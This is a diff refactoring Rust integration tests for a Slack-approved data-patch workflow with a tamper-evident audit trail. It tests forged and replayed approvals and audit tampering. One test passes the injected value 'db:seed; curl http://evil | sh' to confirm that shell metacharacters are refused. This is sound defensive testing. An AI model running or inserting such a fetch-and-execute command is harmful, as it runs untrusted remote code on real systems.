@@ -10,6 +10,7 @@ use std::time::Duration;
 
 use anyhow::{Context, Result};
 use batchless_core::shared::audit::{self, Trail};
+use batchless_scenarios::patch::{Patches as P, PATCH_ID_VAR};
 use batchless_scenarios::*;
 use serde_json::{json, Value};
 
@@ -21,30 +22,6 @@ const ALICE_SLACK: &str = "U0ALICE01";
 const BOB_SLACK: &str = "U0BOB0001";
 const CAROL_SLACK: &str = "U0CAROL01";
 const DAVE_SLACK: &str = "U0DAVE001";
-
-struct P {
-    stack: Stack,
-    sm: String,
-    table: String,
-    waits_table: String,
-    audit_table: String,
-    bucket: String,
-    project: String,
-}
-
-async fn setup() -> Result<P> {
-    let stack = Stack::from_env().await?;
-    stack.clear_faults().await?;
-    Ok(P {
-        sm: stack.state_machine("DataPatchStateMachine")?,
-        table: stack.table("PatchesTable")?,
-        waits_table: stack.table("WaitsTable")?,
-        audit_table: stack.table("AuditTable")?,
-        bucket: stack.bucket("LogsBucket")?,
-        project: stack.physical_id("PatchProject")?,
-        stack,
-    })
-}
 
 fn request(commit: &str, extra: Value) -> Value {
     let mut r = json!({
@@ -70,11 +47,26 @@ fn request(commit: &str, extra: Value) -> Value {
     r
 }
 
-impl P {
+/// What the data-patch tests do beyond the shared fixture.
+trait DataPatch {
+    async fn submit(&self, input: &Value) -> Result<(String, String)>;
+    async fn submit_request(&self, extra: Value) -> Result<(String, String)>;
+    async fn approved_run(&self, extra: Value, faults: &[Value])
+        -> Result<(String, String, Ended)>;
+    async fn pending(&self, id: &str) -> Result<Value>;
+    async fn approval_wait(&self, id: &str) -> Result<Option<Value>>;
+    async fn audit_events(&self, id: &str) -> Result<Vec<(String, Value)>>;
+    async fn audit_names(&self, id: &str) -> Result<Vec<String>>;
+    async fn find_audit_event(&self, id: &str, event: &str) -> Result<Option<Value>>;
+    async fn audit_event(&self, id: &str, event: &str) -> Result<Value>;
+    async fn sweep(&self) -> Result<Value>;
+    async fn cli(&self, as_user: Option<&str>, args: &[&str]) -> Result<(bool, String)>;
+    async fn access_key(&self, name: &str) -> Result<String>;
+}
+
+impl DataPatch for P {
     async fn submit(&self, input: &Value) -> Result<(String, String)> {
-        let name = unique_name("patch");
-        let arn = self.stack.start(&self.sm, &name, input).await?;
-        Ok((name, arn))
+        self.start_named("patch", input).await
     }
 
     /// Submit the standard request for the app's head with `extra` fields.
@@ -106,18 +98,11 @@ impl P {
         Ok((id, arn, ended))
     }
 
-    async fn record(&self, id: &str) -> Result<Value> {
-        self.stack
-            .get_item(&self.table, "patchId", id)
-            .await?
-            .with_context(|| format!("no patch record {id}"))
-    }
-
     /// Wait until the approval request is posted (the record has its Slack message) and the
     /// approval wait is registered (its task token in the waits table).
     async fn pending(&self, id: &str) -> Result<Value> {
         eventually("the approval request", TIMEOUT, || async {
-            let r = self.stack.get_item(&self.table, "patchId", id).await?;
+            let r = self.find_record(id).await?;
             let waiting = self.approval_wait(id).await?.is_some();
             Ok(r.filter(|r| r.get("approvalMessage").is_some() && waiting))
         })
@@ -133,84 +118,6 @@ impl P {
                 &format!("patch-approval#{id}"),
             )
             .await
-    }
-
-    /// A Slack button click, signed by the fake Slack (or with `extra` overriding the signing).
-    async fn click(
-        &self,
-        id: &str,
-        user: &str,
-        action: &str,
-        mut extra: Value,
-    ) -> Result<(u16, Value)> {
-        let action_ts = extra
-            .as_object_mut()
-            .and_then(|e| e.remove("action_ts"))
-            .unwrap_or_else(|| json!(unique_name("a")));
-        let payload = json!({
-            "type": "block_actions",
-            "user": {"id": user},
-            "actions": [{"action_id": action, "value": id, "type": "button"}],
-            "container": {"type": "message"},
-            // Every real click has its own action_ts (so its own signature).
-            "action_ts": action_ts,
-        });
-        let body = format!("payload={}", urlencode(&payload.to_string()));
-        let mut spec = json!({
-            "url": self.stack.info["function_urls"]["ApprovalFunction"],
-            "body": body,
-            "content_type": "application/x-www-form-urlencoded",
-        });
-        if let (Some(s), Some(e)) = (spec.as_object_mut(), extra.as_object()) {
-            for (k, v) in e {
-                s.insert(k.clone(), v.clone());
-            }
-        }
-        self.stack.slack_send(&spec).await
-    }
-
-    async fn builds_of(&self, id: &str) -> Result<Vec<aws_sdk_codebuild::types::Build>> {
-        Ok(self
-            .stack
-            .builds(&self.project)
-            .await?
-            .into_iter()
-            .filter(|b| {
-                b.environment().is_some_and(|e| {
-                    e.environment_variables()
-                        .iter()
-                        .any(|v| v.name() == "BATCHLESS_PATCH_ID" && v.value() == id)
-                })
-            })
-            .collect())
-    }
-
-    /// Wait for the end: the execution failed `error`, no build of the patch ran, and the
-    /// record ended `status` (when given). Returns the cause.
-    async fn ended_without_build(
-        &self,
-        id: &str,
-        arn: &str,
-        error: &str,
-        status: Option<&str>,
-    ) -> Result<String> {
-        let ended = self.stack.wait_end(arn, TIMEOUT).await?;
-        assert_eq!(ended.error.as_deref(), Some(error), "{ended:?}");
-        assert!(self.builds_of(id).await?.is_empty());
-        if let Some(status) = status {
-            assert_eq!(self.record(id).await?["status"], status);
-        }
-        Ok(ended.cause.unwrap_or_default())
-    }
-
-    fn trail<'a>(&'a self, chain: &'a str) -> Trail<'a> {
-        Trail {
-            db: &self.stack.db,
-            s3: &self.stack.s3,
-            table: &self.audit_table,
-            bucket: &self.bucket,
-            chain,
-        }
     }
 
     async fn audit_events(&self, id: &str) -> Result<Vec<(String, Value)>> {
@@ -307,20 +214,27 @@ impl P {
     }
 }
 
-fn urlencode(s: &str) -> String {
-    s.bytes()
-        .map(|b| match b {
-            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
-                (b as char).to_string()
-            }
-            _ => format!("%{b:02X}"),
-        })
-        .collect()
+/// Wait for the end: the execution failed `error`, no build of the patch ran, and the
+/// record ended `status` (when given). Returns the cause.
+async fn ended_without_build(
+    p: &P,
+    id: &str,
+    arn: &str,
+    error: &str,
+    status: Option<&str>,
+) -> Result<String> {
+    let ended = p.stack.wait_end(arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some(error), "{ended:?}");
+    assert!(p.builds_of(id, PATCH_ID_VAR).await?.is_empty());
+    if let Some(status) = status {
+        assert_eq!(p.record(id).await?["status"], status);
+    }
+    Ok(ended.cause.unwrap_or_default())
 }
 
 #[tokio::test]
 async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let commit = p.stack.app_head()?;
     let (id, arn) = p.submit(&request(&commit, json!({}))).await?;
     let rec = p.pending(&id).await?;
@@ -355,7 +269,7 @@ async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> R
     assert_eq!(out["verdict"], "COMPLIANT");
     assert_eq!(out["approvers"], json!(["alice"]));
     // The approved SHA ran, with the approved (quoted) command.
-    let builds = p.builds_of(&id).await?;
+    let builds = p.builds_of(&id, PATCH_ID_VAR).await?;
     assert_eq!(builds.len(), 1);
     assert_eq!(builds[0].resolved_source_version(), Some(commit.as_str()));
     assert_eq!(builds[0].source_version(), Some(commit.as_str()));
@@ -398,27 +312,24 @@ async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> R
 
 #[tokio::test]
 async fn rejected_patch_runs_no_build() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     let (status, body) = p.click(&id, CAROL_SLACK, "patch_reject", json!({})).await?;
     assert_eq!(status, 200, "{body}");
-    let cause = p
-        .ended_without_build(&id, &arn, "PatchRejected", Some("REJECTED"))
-        .await?;
+    let cause = ended_without_build(&p, &id, &arn, "PatchRejected", Some("REJECTED")).await?;
     assert!(cause.contains("rejected by carol"));
     Ok(())
 }
 
 #[tokio::test]
 async fn unanswered_patch_expires_without_a_build() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     // 60 s at the test time scale (60x) is one second.
     let (id, arn) = p
         .submit_request(json!({"approvalTimeoutSeconds": 60}))
         .await?;
-    p.ended_without_build(&id, &arn, "ApprovalExpired", Some("EXPIRED"))
-        .await?;
+    ended_without_build(&p, &id, &arn, "ApprovalExpired", Some("EXPIRED")).await?;
     let events = p.audit_names(&id).await?;
     assert_eq!(events.last().map(String::as_str), Some("FINISHED"));
     Ok(())
@@ -426,7 +337,7 @@ async fn unanswered_patch_expires_without_a_build() -> Result<()> {
 
 #[tokio::test]
 async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let (id, arn) = p.submit_request(json!({"requiredApprovals": 2})).await?;
     p.pending(&id).await?;
     let (_, body) = p.click(&id, BOB_SLACK, "patch_approve", json!({})).await?;
@@ -454,7 +365,7 @@ async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two()
         .await?;
     assert_eq!(body["outcome"]["outcome"], "duplicate", "{body}");
     assert_eq!(p.record(&id).await?["status"], "PENDING_APPROVAL");
-    assert!(p.builds_of(&id).await?.is_empty());
+    assert!(p.builds_of(&id, PATCH_ID_VAR).await?.is_empty());
     // The second distinct approver completes it.
     let (_, body) = p
         .click(&id, CAROL_SLACK, "patch_approve", json!({}))
@@ -474,7 +385,7 @@ async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two()
 
 #[tokio::test]
 async fn forged_stale_and_replayed_slack_requests_get_401_and_record_nothing() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     let (status, _) = p
@@ -522,14 +433,13 @@ async fn forged_stale_and_replayed_slack_requests_get_401_and_record_nothing() -
     // Cancelled by the requester through the CLI: nothing runs.
     let (ok, out) = p.cli(Some("bob"), &["patch", "cancel", &id]).await?;
     assert!(ok, "{out}");
-    p.ended_without_build(&id, &arn, "PatchCancelled", None)
-        .await?;
+    ended_without_build(&p, &id, &arn, "PatchCancelled", None).await?;
     Ok(())
 }
 
 #[tokio::test]
 async fn a_forged_send_task_success_ends_not_approved_without_a_build() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     let wait = p.approval_wait(&id).await?.context("the approval wait")?;
@@ -541,16 +451,14 @@ async fn a_forged_send_task_success_ends_not_approved_without_a_build() -> Resul
         .output(json!({"decision": "approved", "approvers": ["alice", "carol"]}).to_string())
         .send()
         .await?;
-    let cause = p
-        .ended_without_build(&id, &arn, "NotApproved", Some("NOT_APPROVED"))
-        .await?;
+    let cause = ended_without_build(&p, &id, &arn, "NotApproved", Some("NOT_APPROVED")).await?;
     assert!(cause.contains("0 of 1 valid approvals"));
     Ok(())
 }
 
 #[tokio::test]
 async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let branch = unique_name("fix");
     let script = "script/fix_totals.rb";
     let approved_sha =
@@ -605,7 +513,7 @@ async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> R
         .to_string();
     let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
     Expect::succeeded().check(&p.stack, &arn, &ended).await?;
-    let builds = p.builds_of(&id).await?;
+    let builds = p.builds_of(&id, PATCH_ID_VAR).await?;
     assert_eq!(
         builds[0].resolved_source_version(),
         Some(approved_sha.as_str())
@@ -637,7 +545,7 @@ async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> R
 #[tokio::test]
 async fn the_sweep_names_a_build_started_outside_the_workflow_and_a_false_requester() -> Result<()>
 {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let outside = p
         .stack
         .codebuild
@@ -692,7 +600,7 @@ async fn the_sweep_names_a_build_started_outside_the_workflow_and_a_false_reques
 #[tokio::test]
 async fn a_failing_script_is_patch_failed_and_audited_and_metacharacters_are_invalid_input(
 ) -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let mut input = request(&p.stack.app_head()?, json!({}));
     input["task"] = json!("db:seed; curl http://evil | sh");
     let (id, arn) = p.submit(&input).await?;
@@ -726,7 +634,7 @@ async fn a_failing_script_is_patch_failed_and_audited_and_metacharacters_are_inv
 #[tokio::test]
 async fn audit_verify_names_an_edited_record_a_deleted_newest_record_and_a_rewritten_chain(
 ) -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let chain_name = unique_name("tamper");
     let chain = chain_name.as_str();
     let trail = p.trail(chain);
@@ -846,7 +754,7 @@ async fn audit_verify_names_an_edited_record_a_deleted_newest_record_and_a_rewri
 
 #[tokio::test]
 async fn a_start_build_error_is_recorded_and_the_lost_event_is_caught_by_the_poll() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     // StartBuild refused (not retried) → Errored, recorded ERROR.
     let refused = [fault::aws(
         "codebuild",
@@ -877,7 +785,7 @@ async fn a_start_build_error_is_recorded_and_the_lost_event_is_caught_by_the_pol
 /// Slack is down for the result. The run still ends, recorded, as `AuditCheckFailed`.
 #[tokio::test]
 async fn failures_after_the_build_are_recorded_and_named() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let faults = [
         // The work log's upload: CodeBuild's own phase lines are only in the log (not in the
         // audit anchors, nor in the run's measure, which holds the command's output tail).
@@ -918,7 +826,7 @@ async fn failures_after_the_build_are_recorded_and_named() -> Result<()> {
 /// registered, the safety-net poll is refused. Each run ends with the step's error, recorded.
 #[tokio::test]
 async fn failures_of_the_waits_end_the_run_recorded() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     // Slack is down for every attempt of the approval request (1 + 5 retries).
     p.stack
         .faults(&[fault::slack("chat.postMessage", "internal_error", 6)])
@@ -930,7 +838,7 @@ async fn failures_of_the_waits_end_the_run_recorded() -> Result<()> {
         .check(&p.stack, &arn, &ended)
         .await?;
     assert_eq!(p.record(&id).await?["status"], "ERROR");
-    assert!(p.builds_of(&id).await?.is_empty());
+    assert!(p.builds_of(&id, PATCH_ID_VAR).await?.is_empty());
 
     let cases = [
         // The build's wait cannot be stored.
@@ -976,7 +884,7 @@ async fn failures_of_the_waits_end_the_run_recorded() -> Result<()> {
 /// `AuditViolation` and the verdict is in the audit trail.
 #[tokio::test]
 async fn a_build_no_longer_backed_by_its_approval_is_an_audit_violation() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let slow = json!({"task": "fake:sleep", "args": ["5"]});
     let (id, arn) = p.submit_request(slow).await?;
     p.pending(&id).await?;
@@ -1017,7 +925,7 @@ async fn a_build_no_longer_backed_by_its_approval_is_an_audit_violation() -> Res
 /// ends the record `ABORTED` and the audit trail says so (no patch is left pending forever).
 #[tokio::test]
 async fn a_stopped_patch_execution_is_ended_in_the_record_and_the_audit_trail() -> Result<()> {
-    let p = setup().await?;
+    let p = P::setup().await?;
     let (id, arn) = p.submit_request(json!({})).await?;
     p.pending(&id).await?;
     p.stack
@@ -1038,6 +946,6 @@ async fn a_stopped_patch_execution_is_ended_in_the_record_and_the_audit_trail() 
     })
     .await?;
     assert_eq!(finished["status"], "ABORTED");
-    assert!(p.builds_of(&id).await?.is_empty());
+    assert!(p.builds_of(&id, PATCH_ID_VAR).await?.is_empty());
     Ok(())
 }
